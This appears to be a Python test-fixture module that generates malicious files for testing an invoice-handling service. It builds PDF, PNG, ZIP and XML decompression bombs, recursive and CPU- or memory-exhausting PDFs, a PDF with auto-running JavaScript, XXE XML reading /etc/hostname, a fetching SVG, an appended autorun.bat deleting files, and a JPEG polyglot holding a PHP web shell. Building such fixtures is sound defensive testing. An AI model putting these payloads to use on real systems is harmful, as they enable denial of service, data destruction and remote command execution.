"""Files as attackers make them. Each is a real file of a few kilobytes to a megabyte."""

import re
import struct
import zipfile
import zlib
from functools import cache, reduce
from io import BytesIO

MEGABYTE = 1024 * 1024


def pdf(*objects):
    """A PDF of these objects, numbered from 1; the first is its catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def page(content, resources, *objects):
    """A PDF of one page; `objects` are numbered from 5."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %b >> >>" % resources,
        content,
        *objects,
    )


def stream(data, entries=b""):
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


@cache
def squeezed(megabytes):
    """So many megabytes of blanks as a thousandth of it: one megabyte, squeezed once and repeated."""
    blanks = b" " * MEGABYTE
    squeeze = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    one, end = squeeze.compress(blanks) + squeeze.flush(zlib.Z_FULL_FLUSH), squeeze.flush()
    check = reduce(lambda sum_, _: zlib.adler32(blanks, sum_), range(megabytes), 1)
    return b"\x78\xda" + one * megabytes + end + check.to_bytes(4)


def flate_bomb():
    """900 MB of blanks as the content of a page."""
    return page(stream(squeezed(900), b"/Filter /FlateDecode"), b"")


def nested_flate_bomb():
    """The same squeezed twice: some kilobytes."""
    return page(stream(zlib.compress(squeezed(900), 9), b"/Filter [/FlateDecode /FlateDecode]"), b"")


def zip_bomb():
    """200 MB of zeros in 200 kB."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("invoice.pdf", "w") as inside:
        for _ in range(200):
            inside.write(bytes(MEGABYTE))
    return out.getvalue()


def text_chunk_bomb():
    """A PNG of one pixel whose compressed comment unpacks to 200 MB."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    chunks = (
        (b"IHDR", header),
        (b"zTXt", b"Comment\0\0" + squeezed(200)),
        (b"IDAT", zlib.compress(b"\0\0")),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


@cache
def many_pages():
    """10,000 of them, in one megabyte."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    blank = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%b] /Count 10000 >>" % kids, *[blank] * 10_000
    )


def pages_in_a_loop():
    """Two folders of pages that hold each other, and themselves."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 3 /Parent 3 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 3 /Parent 2 0 R >>",
    )


def drawing_in_a_loop():
    """A drawing made of ten drawings made of ten drawings …, nine times over."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    drawings = [stream(b"/X Do " * 10, form % number) for number in range(6, 14)]
    return page(stream(b"/X Do"), b"/XObject << /X 5 0 R >>", *drawings, stream(b"0 0 m 9 9 l S", form % 13))


def slow():
    """A page filled with four billion tiles of two thousand lines each: 28 kB that take minutes."""
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.01 /YStep 0.01"
    lines = stream(b"0 0 m 1 1 l S " * 2000, tile + b" /Resources << >>")
    return page(stream(b"/Pattern cs /P scn 0 0 595 842 re f"), b"/Pattern << /P 5 0 R >>", lines)


def hungry():
    """A million letters, each placed by itself: 60 kB that take gigabytes."""
    letters = zlib.compress(b"BT /F 8 Tf " + b"1 0 0 1 10 10 Tm (a) Tj " * 1_000_000 + b"ET", 9)
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    return page(stream(letters, b"/Filter /FlateDecode"), b"/Font << /F 5 0 R >>", font)


def with_javascript(invoice, address):
    """An invoice's PDF that asks to run JavaScript and to open an address as soon as it is opened."""
    (root,) = re.findall(rb"/Root (\d+) 0 R", invoice)
    (size,) = re.findall(rb"/Size (\d+)", invoice)
    (before,) = re.findall(rb"startxref\s+(\d+)", invoice)
    (catalog,) = re.findall(rb"\n%b 0 obj\s*<<(.*?)>>\s*endobj" % root, invoice, re.DOTALL)
    script = b"/S /JavaScript /JS (while(true){app.launchURL('%b')})" % address.encode()
    action = b"/OpenAction << %b /Next << /S /URI /URI (%b) >> >>" % (script, address.encode())
    changed = b"%b 0 obj\n<<%b %b>>\nendobj\n" % (root, catalog, action)
    start = len(invoice) + len(changed)
    table = b"xref\n%b 1\n%010d 00000 n \n" % (root, len(invoice))
    trailer = b"trailer\n<< /Size %b /Root %b 0 R /Prev %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, before, start)
    return invoice + changed + table + trailer


def xml_that_fetches(address, kind=b"invoice"):
    """An XML whose entities are a file of this machine and an address."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname"><!ENTITY b SYSTEM "%b">'
        b'<!ENTITY %% c SYSTEM "%b">%%c;]>\n<%b>&a;&b;</%b>\n' % (address.encode(), address.encode(), kind, kind)
    )


def svg_that_fetches(address):
    return b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%b"/><script>fetch("%b")</script></svg>' % (
        (address.encode(),) * 2
    )


def with_archive(content):
    """A ZIP at the end of another file: an archiver opens it as an archive."""
    out = BytesIO(content)
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("autorun.bat", "del *.*")
    return out.getvalue()


def with_page_inside(jpeg):
    """A JPEG that is a web page and a PHP program, too: in a comment at its beginning and after its end."""
    page_of = b"<html><script>alert(1)</script><?php system($_GET['c']); ?></html>"
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(page_of) + 2) + page_of + jpeg[2:] + page_of


def billion_laughs():
    """Ten entities of ten of the one before: a kilobyte that unfolds to gigabytes."""
    more = b"".join(b'<!ENTITY l%d "%b">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY l0 "lol">%b]><i>&l9;</i>' % more


def archive(*entries):
    """A ZIP of (name, content); names stand as they are given."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in entries:
            made.writestr(name, content)
    return out.getvalue()


def with_entry(content, name):
    """An archive with one more entry."""
    out = BytesIO(content)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(name, b"x")
    return out.getvalue()


def crowded():
    """10,000 empty files."""
    return archive(*((f"{number}.xml", b"") for number in range(10_000)))


def nested(content):
    """An archive in an archive in an archive."""
    return archive(("a.zip", archive(("b.zip", archive(("invoice.xml", content))))))
